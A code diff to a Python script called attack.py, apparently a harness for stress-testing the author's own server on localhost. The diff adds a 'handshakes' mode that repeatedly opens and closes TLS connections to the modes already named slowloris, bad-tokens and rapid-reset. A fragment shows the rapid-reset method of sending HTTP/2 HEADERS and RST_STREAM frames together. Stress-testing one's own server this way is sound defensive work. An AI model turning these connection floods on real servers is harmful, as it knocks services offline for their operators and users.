@@ -1,6 +1,6 @@
 """What an attacker does, from one address, until it is ended. Prints "attacking" once it is at full strength, and at its end what it did.
 
-    attack.py bad-tokens|slowloris|rapid-reset PORT CA TOKENS CONNECTIONS"""
+    attack.py bad-tokens|slowloris|rapid-reset|handshakes PORT CA TOKENS CONNECTIONS"""
 import os
 import resource
 import selectors
@@ -47,6 +47,15 @@ def bad_tokens(port, context, tokens, number):
 # PREFACE, SETTINGS; then HEADERS of a GET (static table, literals without indexing) and RST_STREAM at once.
 def frame(kind, flags, stream, payload):
     return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
+
+
+def handshakes(port, context, tokens, number):
+    while not over.is_set():
+        try:
+            dial(port, context).close()
+            counts["tried"] += 1
+        except OSError:
+            counts["cut"] += 1
 
 
 HEAD = b"\x82\x87\x84\x01\x09localhost"
@@ -122,7 +131,7 @@ def main():
     if kind == "slowloris":
         slowloris(port, context, n)
     else:
-        one = {"bad-tokens": bad_tokens, "rapid-reset": rapid_reset}[kind]
+        one = {"bad-tokens": bad_tokens, "rapid-reset": rapid_reset, "handshakes": handshakes}[kind]
         for i in range(n):
             threading.Thread(target=one, args=(port, context, tokens, i), daemon=True).start()
         while counts["tried"] < n and not over.wait(0.01):
